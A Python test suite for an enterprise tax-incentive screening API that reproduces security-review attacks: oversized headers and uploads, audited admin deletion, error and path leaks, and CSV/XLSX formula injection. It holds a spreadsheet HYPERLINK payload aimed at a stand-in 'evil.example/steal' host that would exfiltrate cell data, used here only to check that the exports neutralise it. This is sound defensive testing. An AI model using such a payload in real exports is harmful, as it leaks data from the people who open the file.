"""Uploads crafted to hurt the desk: what is kept of them is bounded, lists stay small, and an
administrator can delete a run (audited). Each test reproduces an attack of the security review."""

from __future__ import annotations

from sqlalchemy import func, select
from sqlalchemy.orm import Session

import intake
from api.screening.models import ReviewDecision, ScreeningChunk, ScreeningRow, ScreeningRun
from tests.api.conftest import assert_problem
from tests.screening.conftest import csv_bytes, profiles, run_done, upload


def _junk_header_csv(junk: int, rows: int = 3) -> bytes:
    people = profiles(rows, seed=51)
    head = "统一社会信用代码," + ",".join(f"备注{i}" for i in range(junk))
    lines = [head] + [p["credit_code"] for p in people]
    return ("\n".join(lines) + "\n").encode()


def test_a_header_of_thousands_of_junk_columns_keeps_fifty_and_every_list_stays_small(bureau):
    # before: every ignored header was stored and returned by every GET /v1/screenings (18 MB a call
    # for 500,000 columns); now the first 50 are kept, each cut to 100 characters, and counted
    data = _junk_header_csv(1000)
    long_header = "很长的备注" * 400  # 2,000 characters
    data = data.replace("备注1,".encode(), long_header.encode() + b",", 1)
    got = run_done(bureau, data)
    assert got["ignored_columns_total"] == 1000
    assert len(got["ignored_columns"]) == intake.IGNORED_KEPT
    assert got["ignored_columns"][0] == {"column": "B", "header": "备注0"}
    assert got["ignored_columns"][1]["header"] == long_header[:100] + "…"
    listed = bureau.client.get("/v1/screenings?limit=500", headers=bureau.reviewer.headers)
    per_run = len(listed.content) / listed.json()["total"]
    assert per_run < 8_000, per_run


def test_five_hundred_thousand_junk_columns_are_refused_not_stored(bureau):
    data = _junk_header_csv(500_000, rows=1)  # ~4 MB of header
    settings = bureau.app.state.screening_settings
    old = settings.max_upload_bytes
    settings.max_upload_bytes = 8 * 1024 * 1024
    try:
        run = upload(bureau, data)
    finally:
        settings.max_upload_bytes = old
    got = bureau.client.get(f"/v1/screenings/{run['id']}", headers=bureau.reviewer.headers)
    body = got.json()
    assert body["status"] == "failed" and "1,024" in body["error"], body
    assert body["ignored_columns"] == [] and len(got.content) < 4_000


def test_header_problems_are_named_twenty_at_a_time():
    header = "统一社会信用代码," + ",".join(f"{2000 + i}年度销售收入（元）" for i in range(300))
    try:
        intake.open_table(__import__("io").BytesIO(header.encode()), "a.csv")
    except intake.TableError as e:
        assert len(e.errors) == intake.PROBLEMS_SHOWN and "等 300 处" in e.zh and len(e.zh) < 3_000
    else:
        raise AssertionError("bad units must be refused")


def _counts(db, run_ids: list[str]) -> dict[str, int]:
    with Session(db) as s:
        return {
            m.__tablename__: s.scalar(select(func.count()).select_from(m).where(m.run_id.in_(run_ids)))
            for m in (ScreeningRow, ScreeningChunk, ReviewDecision)
        } | {
            "runs": s.scalar(
                select(func.count()).select_from(ScreeningRun).where(ScreeningRun.id.in_(run_ids))
            )
        }


def test_an_admin_deletes_a_run_and_the_runs_built_on_it_and_the_audit_log_says_what_went(bureau):
    c, h = bureau.client, bureau.reviewer.headers
    run = run_done(bureau, csv_bytes(profiles(8, seed=52)), measures=["hte-recognition"])
    item = c.get(f"/v1/screenings/{run['id']}/results?limit=1", headers=h).json()["items"][0]
    r = c.post(
        f"/v1/screenings/{run['id']}/rows/{item['row']}/decisions",
        json={"measure_id": "hte-recognition", "decision": "request_info", "reason": "补充材料"},
        headers=h,
    )
    assert r.status_code == 201
    impact = c.post(
        f"/v1/screenings/{run['id']}/impact",
        json={"overrides": {"hte-recognition.min_tech_staff_ratio": "0.12"}},
        headers=h,
    ).json()
    bureau.drain()
    db = bureau.app.state.db_engine
    ids = [run["id"], impact["id"]]
    assert all(_counts(db, ids).values())
    assert_problem(c.delete(f"/v1/screenings/{run['id']}", headers=h), 403)  # reviewers may not
    r = c.delete(f"/v1/screenings/{run['id']}", headers=bureau.admin.headers)
    assert r.status_code == 204, r.text
    assert not any(_counts(db, ids).values())
    assert_problem(c.get(f"/v1/screenings/{run['id']}", headers=h), 404)
    assert_problem(c.get(f"/v1/screenings/{impact['id']}", headers=h), 404)
    entry = c.get(
        "/v1/audit",
        params={"action": "screening.delete", "target_id": run["id"]},
        headers=bureau.admin.headers,
    ).json()["items"][0]
    assert entry["actor"] == "s-admin"
    assert entry["before"]["rows"] == 8 and entry["before"]["decisions"] == 1
    assert entry["before"]["dependent_runs"] == [impact["id"]]


EVIL_NAME = '=HYPERLINK("http://evil.example/steal?d="&B3&C3,"点击查看")'


def test_a_formula_an_enterprise_gives_itself_is_text_in_every_export_format(bureau):
    import csv
    import io

    from openpyxl import load_workbook

    from tests.population import AS_OF

    c = bureau.client
    p = profiles(1, seed=53)[0]
    p["name"] = EVIL_NAME
    # the enterprise's own account may name itself anything; the reviewer then exports
    with bureau.app.state.sessionmaker() as db:
        from tests.api.conftest import _actor

        ent = _actor(db, "s-evil", "enterprise", p["credit_code"])
    assert (
        c.put(f"/v1/enterprises/{p['credit_code']}/profile", json=p, headers=ent.headers).status_code == 201
    )
    r = c.post(
        "/v1/screenings/proactive",
        json={"measures": ["rd-super-deduction"], "as_of": AS_OF.isoformat()},
        headers=bureau.reviewer.headers,
    )
    bureau.drain()
    run_id = r.json()["id"]
    names = []
    for fmt in ("csv", "xlsx"):
        got = c.get(f"/v1/screenings/{run_id}/export?format={fmt}", headers=bureau.reviewer.headers)
        assert got.status_code == 200
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
            names += [row[2] for row in rows if EVIL_NAME in row[2]]
        else:
            ws = load_workbook(io.BytesIO(got.content)).worksheets[0]
            cells = [row[2] for row in ws.iter_rows(min_row=2) if EVIL_NAME in str(row[2].value)]
            assert cells and all(cell.data_type == "s" for cell in cells)
            names += [cell.value for cell in cells]
    assert names == ["'" + EVIL_NAME] * 2


def test_every_formula_trigger_is_neutralised():
    from api.screening.export import safe_cell as _safe_cell

    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\u3000=1"):
        assert _safe_cell(text).startswith("'"), text
    assert _safe_cell("不符合：研发费用占比") == "不符合：研发费用占比"
    assert _safe_cell(12) == 12


def _asgi_upload(app, headers: list[tuple[bytes, bytes]]) -> tuple[int, int]:
    """POST /v1/screenings declaring a 190 MB body; (status, body chunks the app asked for)."""
    import asyncio

    reads = 0
    status = 0

    async def receive():
        nonlocal reads
        reads += 1
        return {"type": "http.request", "body": b"x" * 65536, "more_body": reads < 2900}

    async def send(message):
        nonlocal status
        if message["type"] == "http.response.start":
            status = message["status"]

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/v1/screenings",
        "raw_path": b"/v1/screenings",
        "query_string": b"",
        "root_path": "",
        "headers": [
            (b"host", b"testserver"),
            (b"content-type", b"multipart/form-data; boundary=xyz"),
            (b"content-length", str(190 * 1024 * 1024).encode()),
            *headers,
        ],
        "client": ("127.0.0.1", 1234),
        "server": ("testserver", 80),
        "state": {},
    }
    asyncio.run(app(scope, receive, send))
    return status, reads


def test_an_upload_is_refused_before_its_body_is_read(bureau):
    # before: an anonymous 190 MB upload was read in full (14.6 s) before its 401
    settings = bureau.app.state.screening_settings
    old = settings.max_upload_bytes
    settings.max_upload_bytes = 200 * 1024 * 1024
    try:
        assert _asgi_upload(bureau.app, []) == (401, 0)
        assert _asgi_upload(bureau.app, [(b"x-api-key", b"hqk_not-a-key")]) == (401, 0)
        assert _asgi_upload(bureau.app, [(b"authorization", b"Bearer nope")]) == (401, 0)
        assert _asgi_upload(bureau.app, [(b"x-api-key", bureau.enterprise.key.encode())]) == (403, 0)
        status, reads = _asgi_upload(bureau.app, [(b"x-api-key", bureau.reviewer.key.encode())])
        assert reads > 0 and status in (400, 422), status  # a reviewer's body is read (and is junk)
    finally:
        settings.max_upload_bytes = old


def test_rule_packs_do_not_show_the_servers_paths(bureau):
    r = bureau.client.get("/v1/screenings/rule-packs", headers=bureau.reviewer.headers)
    assert r.status_code == 200
    assert "/" not in str([p.get("name") for p in r.json()]) and "rules_dir" not in r.text
    assert str(bureau.app.state.engine.rules_dir) not in r.text


def test_impact_overrides_are_refused_in_words_not_internals(bureau):
    run = run_done(bureau, csv_bytes(profiles(3, seed=54)), measures=["hte-recognition"])
    url = f"/v1/screenings/{run['id']}/impact"
    for overrides, key in (
        ({"hte-recognition.min_tech_staff_ratio": "abc"}, "hte-recognition.min_tech_staff_ratio"),
        (
            {"hte-recognition.min_rd_expense_ratio": {"by": "x", "tiers": "bad"}},
            "hte-recognition.min_rd_expense_ratio",
        ),
        ({"hte-recognition.nope": "1"}, "hte-recognition.nope"),
    ):
        r = bureau.client.post(url, json={"overrides": overrides}, headers=bureau.reviewer.headers)
        body = assert_problem(r, 422, "validation-error")
        text = r.text
        assert "<class" not in text and "validation error for" not in text and "pydantic" not in text, text
        assert body["errors"][0]["field"] == f"overrides.{key}"
    # overrides are stored with the run and shown in every list: a megabyte of them is refused
    huge = {
        "hte-recognition.min_rd_expense_ratio": {"by": "x", "tiers": [{"upto": "1", "value": "0.1"}] * 20_000}
    }
    body = assert_problem(
        bureau.client.post(url, json={"overrides": huge}, headers=bureau.reviewer.headers), 422
    )
    assert body["errors"][0]["field"] == "overrides"


def test_a_review_reason_of_invisible_characters_is_refused(bureau):
    run = run_done(bureau, csv_bytes(profiles(2, seed=55)), measures=["hte-recognition"])
    item = bureau.client.get(
        f"/v1/screenings/{run['id']}/results?limit=1", headers=bureau.reviewer.headers
    ).json()["items"][0]
    url = f"/v1/screenings/{run['id']}/rows/{item['row']}/decisions"
    for reason in ("\u200b\u200b\u200b", " \u200d\ufeff ", "\u2060\u00ad"):
        body = {"measure_id": "hte-recognition", "decision": "request_info", "reason": reason}
        problem = assert_problem(bureau.client.post(url, json=body, headers=bureau.reviewer.headers), 422)
        assert problem["errors"][0]["field"] == "reason"
    ok = {"measure_id": "hte-recognition", "decision": "request_info", "reason": "\u200b补充材料\u200b"}
    r = bureau.client.post(url, json=ok, headers=bureau.reviewer.headers)
    assert r.status_code == 201 and r.json()["reason"] == "补充材料"
